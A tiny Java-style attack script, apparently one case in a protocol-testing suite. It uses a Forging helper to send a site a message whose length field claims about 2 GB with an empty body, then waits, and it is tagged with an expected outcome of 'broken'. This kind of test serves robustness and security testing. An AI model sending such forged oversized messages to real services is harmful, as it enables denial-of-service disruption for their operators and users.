// attack: a message to the site that says it is of 2 GB
// needs: COMPUTE
// ends: broken
void main() throws Throwable {
    long word = Forging.word();
    Forging.write(Forging.message(word, Integer.MAX_VALUE, new byte[0]));
    Thread.sleep(60_000);
}
